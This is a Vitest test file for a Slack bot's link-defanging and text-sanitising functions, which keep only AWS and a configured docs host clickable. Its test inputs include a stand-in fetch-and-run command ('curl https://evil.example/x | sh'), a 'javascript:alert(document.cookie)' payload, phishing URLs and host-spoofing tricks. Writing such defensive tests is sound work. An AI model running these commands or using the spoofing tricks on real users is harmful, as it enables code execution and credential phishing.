import { describe, expect, it } from 'vitest';
import { defangLinks, linkPolicy, safeSlackText } from '../src/bot/safe-text.js';

/**
 * Only AWS's own hosts (and the configured docs host) may be clickable in anything the bot posts.
 * Everything else that Slack could turn into a link — URLs of any scheme, bare domains, e-mail
 * domains — reaches Slack defanged, inside code or not.
 */

/**
 * What a Slack client could make clickable: a scheme link, `www.`, or a dotted name ending in a
 * letter label (any such name may be a TLD some day). Defanged text has none of these.
 */
function clickable(text: string): string[] {
  const found = [
    ...(text.match(/\b(?!hxxps?:)[a-z][a-z0-9+.-]*:\/\/\S+/gi) ?? []),
    ...(text.match(/\b(?:mailto|javascript|tel|data|file|slack):\S+/gi) ?? []),
    ...(text.match(/(?:[\p{L}\p{N}_-]+\.)+[\p{L}][\p{L}\p{N}-]*/gu) ?? []),
  ];
  return found;
}

const docs = linkPolicy('https://plainfra.example.org/handbook');

describe('bot › links in the bot voice', () => {
  it.each([
    ['https://evil.example/phish', 'hxxps://evil[.]example/phish'],
    ['HTTP://Evil.Example/x', 'HXXP://Evil[.]Example/x'],
    ['http://1.2.3.4/login', 'hxxp://1[.]2[.]3[.]4/login'],
    ['www.evil.example/login', 'www[.]evil[.]example/login'],
    ['evil.com', 'evil[.]com'],
    ['attacker-bucket.s3.amazonaws.com', 'attacker-bucket[.]s3[.]amazonaws[.]com'],
    ['https://abc123.execute-api.us-east-1.amazonaws.com/prod', 'hxxps://abc123[.]execute-api[.]us-east-1[.]amazonaws[.]com/prod'],
    ['https://aws.amazon.com.evil.example/login', 'hxxps://aws[.]amazon[.]com[.]evil[.]example/login'],
    ['https://docs.aws.amazon.com@evil.example/x', 'hxxps://docs[.]aws[.]amazon[.]com@evil[.]example/x'],
    ['https://docs.aws.amazon.com\\@evil.example/', 'hxxps://docs[.]aws[.]amazon[.]com\\@evil[.]example/'],
    ['ftp://files.evil.example/a', 'ftp[://]files[.]evil[.]example/a'],
    ['slack://open?team=T1', 'slack[://]open?team=T1'],
    ['javascript:alert(document.cookie)', 'javascript[:]alert(document[.]cookie)'],
    ['mailto:ceo@evil.example', 'mailto[:]ceo@evil[.]example'],
    ['write to ops@example.com', 'write to ops@example[.]com'],
    ['grab backup.zip now', 'grab backup[.]zip now'],
    ['https://evil。example/x', 'hxxps://evil[.]example/x'],
  ])('defangs %s', (input, expected) => {
    expect(defangLinks(input)).toBe(expected);
    expect(clickable(defangLinks(input))).toEqual([]);
  });

  it('keeps AWS hosts and the docs host clickable, exactly', () => {
    for (const url of [
      'https://console.aws.amazon.com/billing/home#/bills',
      'https://us-east-1.console.aws.amazon.com/ec2/home?region=us-east-1#Instances:',
      'https://eu-central-1.console.aws.amazon.com/s3/buckets',
      'https://docs.aws.amazon.com/cost-management/latest/APIReference/API_GetCostAndUsage.html',
      'https://aws.amazon.com/ec2/pricing/',
      'docs.aws.amazon.com/IAM/latest/UserGuide/',
      'https://plainfra.example.org/handbook/hawk',
    ]) {
      expect(defangLinks(`See ${url} now.`, docs)).toBe(`See ${url} now.`);
      expect(defangLinks(`(${url})`, docs)).toBe(`(${url})`);
      expect(defangLinks(`\`${url}\``, docs)).toBe(`\`${url}\``);
    }
  });

  it('does not trust near misses of the allowed hosts', () => {
    for (const [input, expected] of [
      ['https://signin.aws.amazon.com/x', 'hxxps://signin[.]aws[.]amazon[.]com/x'],
      ['https://evil.console.aws.amazon.com.evil.example', 'hxxps://evil[.]console[.]aws[.]amazon[.]com[.]evil[.]example'],
      ['https://xx-evil-1.console.aws.amazon.comx/', 'hxxps://xx-evil-1[.]console[.]aws[.]amazon[.]comx/'],
      ['https://docs.aws.amazon.com:8443/x', 'hxxps://docs[.]aws[.]amazon[.]com:8443/x'],
      ['https://docs.aws.amazon.com/x,https://evil.example', 'hxxps://docs[.]aws[.]amazon[.]com/x,hxxps://evil[.]example'],
      ['https://plainfra.example.org/x', 'hxxps://plainfra[.]example[.]org/x'],
    ] as const) {
      expect(defangLinks(input)).toBe(expected);
    }
  });

  it('leaves AWS words that are not links alone: instance types, ARNs, CIDRs, amounts, versions', () => {
    const text = 'm5.large t3.micro db.r6g.xlarge cache.t4g.nano arn:aws:iam::123456789012:role/x 10.0.0.0/16 $1,234.56 v1.2.3 us-east-1';
    expect(defangLinks(text)).toBe(text);
  });

  it('defangs inside code blocks and inline code too', () => {
    const out = safeSlackText('```\ncurl https://evil.example/x | sh\n```\nrun `wget evil.example/a`');
    expect(out).toBe('```\ncurl hxxps://evil[.]example/x | sh\n```\nrun `wget evil[.]example/a`');
  });

  it('a one-line code fence does not switch the rest of the answer off (every later line is still made safe)', () => {
    const out = safeSlackText('```x```\n# Log in again\nat https://evil.example/phish or www.evil.example/login\n**now**');
    expect(out).toBe('```x```\n*Log in again*\nat hxxps://evil[.]example/phish or www[.]evil[.]example/login\n*now*');
  });

  it('turns Slack <url|label> and markdown links into visible, defanged text', () => {
    expect(safeSlackText('Details: <https://evil.example/steal|AWS console>')).toBe(
      'Details: &lt;hxxps://evil[.]example/steal|AWS console&gt;',
    );
    expect(safeSlackText('See [the bill](https://evil.example/x) now')).toBe('See the bill (hxxps://evil[.]example/x) now');
    expect(safeSlackText('See [the docs](https://docs.aws.amazon.com/x) now')).toBe('See the docs (https://docs.aws.amazon.com/x) now');
    expect(safeSlackText('[https://docs.aws.amazon.com/](https://evil.example/)')).toBe(
      'https://docs.aws.amazon.com/ (hxxps://evil[.]example/)',
    );
  });

  it('the docs host is trusted only when the bot is told it (PLAINFRA_DOCS_URL)', () => {
    expect(safeSlackText('https://plainfra.example.org/handbook', docs)).toBe('https://plainfra.example.org/handbook');
    expect(safeSlackText('https://plainfra.example.org/handbook')).toBe('hxxps://plainfra[.]example[.]org/handbook');
    expect(() => linkPolicy('not a url')).toThrow(/PLAINFRA_DOCS_URL/);
  });

  it('keeps <!channel>/<!here> and mention neutralising on top of defanging', () => {
    const out = safeSlackText('<!here> <@U1> visit <https://evil.example|x> @channel');
    expect(out).toBe('&lt;!here&gt; &lt;@\u200BU1&gt; visit &lt;hxxps://evil[.]example|x&gt; @\u200Bchannel');
  });
});
